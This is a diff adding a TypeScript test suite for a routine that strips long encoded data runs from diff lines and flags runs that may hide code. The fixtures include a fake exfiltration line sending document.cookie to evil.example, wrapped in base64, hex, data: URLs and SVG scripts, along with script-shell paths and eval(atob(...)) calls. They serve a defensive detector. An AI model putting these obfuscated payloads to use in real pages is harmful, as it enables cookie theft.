@@ -1,0 +1,84 @@
+import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
+import { withoutData } from '../../../src/steps/diff/data-runs';
+
+/** Bytes that look random and are the same in every run. */
+function bytes(count: number, start = ''): Buffer {
+  const blocks = Array.from({ length: Math.ceil(count / 32) }, (_, at) =>
+    createHash('sha256').update(String(at)).digest(),
+  );
+  return Buffer.concat([Buffer.from(start, 'hex'), ...blocks]).subarray(0, count);
+}
+
+const PNG = bytes(1800, '89504e470d0a1a0a0000000d49484452').toString('base64');
+const CODE = 'fetch("https://evil.example/?" + document.cookie); ';
+
+const read = (line: string, isEvaluated = false) => withoutData(line, () => isEvaluated);
+
+describe('what is known to be data is taken out of a line', () => {
+  const certificate = `-----BEGIN CERTIFICATE-----\n${PNG.slice(0, 1280).replace(/.{64}/g, '$&\n')}-----END CERTIFICATE-----\n`;
+  const map = JSON.stringify({ version: 3, sources: ['a.ts'], mappings: 'AAAA,'.repeat(400) });
+  const svg = `<svg xmlns="http://www.w3.org/2000/svg">${'<path d="M0 0h24v24H0z"/>'.repeat(80)}</svg>`;
+  const lines: Record<string, string> = {
+    'a picture in an address': `  background: url(data:image/png;base64,${PNG});`,
+    'a picture in a literal': `const logo = "${PNG}";`,
+    'a picture in a literal of a literal': `{"code":"href=\\"${PNG}\\""}`,
+    'a font': `src: url(data:font/woff2;base64,${bytes(2000, '774f463200010000').toString('base64')}) format("woff2")`,
+    'a picture drawn in text': `url("data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}")`,
+    'a source map': `//# sourceMappingURL=data:application/json;base64,${Buffer.from(map).toString('base64')}`,
+    'a certificate, unquoted': `  caBundle: ${Buffer.from(certificate).toString('base64')}`,
+    'a key in a literal': `pfx = "${bytes(2000, '3082').toString('base64')}"`,
+    'a key in a tag': `<X509Certificate>${bytes(2000, '3082').toString('base64')}</X509Certificate>`,
+    'a key in hexadecimal digits': `modulus: '${bytes(1200).toString('hex')}'`,
+    'a key in the alphabet of addresses': `"n": "${bytes(1800).toString('base64url')}"`,
+    'a number': `const LN10 = "2.${'30258509299404568401'.repeat(120)}"`,
+  };
+  for (const [name, line] of Object.entries(lines)) {
+    it(name, () => {
+      const { text, data, unknown } = read(line);
+      assert.ok(data > 1000 && unknown === 0, JSON.stringify({ data, unknown }));
+      assert.ok(text.length < 200 && text.includes(`[${data} characters of data]`));
+    });
+  }
+});
+
+describe('what may be code is told as not read', () => {
+  const unsure: Record<string, string> = {
+    'names in a row': `total=${'subtotal_'.repeat(260)}`,
+    assignments: `${'a=b+'.repeat(300)}location=name+${'a=b+'.repeat(300)}c`,
+    'a path of slashes': `script-shell=${'/'.repeat(2100)}tmp/evil`,
+    'a path of random names': `script-shell=/${PNG}/evil`,
+    'text written as base64': `const s = "${Buffer.from(CODE.repeat(40)).toString('base64')}";`,
+    'text written as base64 twice': `const s = "${Buffer.from(Buffer.from(CODE.repeat(40)).toString('base64')).toString('base64')}";`,
+    'text written as hexadecimal digits': `const s = "${Buffer.from(CODE.repeat(40)).toString('hex')}";`,
+    'a script in an address': `<script src="data:text/javascript;base64,${Buffer.from(CODE.repeat(40)).toString('base64')}">`,
+    'a page in an address': `open("data:text/html;base64,${Buffer.from(`<script>${CODE.repeat(40)}</script>`).toString('base64')}")`,
+    'a drawing with a script': `url("data:image/svg+xml;base64,${Buffer.from(`<svg><script>${CODE.repeat(40)}</script></svg>`).toString('base64')}")`,
+    'code behind the beginning of a picture': `const s = "${Buffer.concat([bytes(300, '89504e470d0a1a0a'), Buffer.from(CODE.repeat(40))]).toString('base64')}";`,
+    'a picture that is run': `const s = "${PNG}"; eval(atob(s).slice(30))`,
+    WebAssembly: `module.exports = Buffer.from('${bytes(2000, '0061736d01000000').toString('base64')}')`,
+    'a program of Windows': `$b = "${bytes(2000, '4d5a90000300').toString('base64')}"`,
+    'a program of Linux': `b = "${bytes(2000, '7f454c460201').toString('base64')}"`,
+    'an archive': `b = "${bytes(2000, '1f8b0800').toString('base64')}"`,
+    'random bytes without quotes': `TOKEN=${bytes(2000).toString('base64')}`,
+    'letters of a word': `const s = "${'abcd'.repeat(600)}";`,
+    'an unquoted run between two literals': `"a"=${PNG}="b"`,
+  };
+  for (const [name, line] of Object.entries(unsure)) {
+    it(name, () => {
+      const { text, unknown } = read(line);
+      assert.ok(unknown > 1000, text);
+      assert.ok(text.includes(`[${unknown} characters that were not read]`), text);
+    });
+  }
+
+  it('random bytes in a file that decodes texts', () => {
+    const line = `const s = "${bytes(2000).toString('base64')}";`;
+    assert.equal(read(line).unknown, 0);
+    assert.ok(read(line, true).unknown > 1000);
+  });
+
+  it('and what stands behind it is shown', () => {
+    assert.match(read(`x="${'QUJD'.repeat(700)}";eval(y);`).text, /^x="QUJD.*not read\]";eval\(y\);$/);
+  });
+});
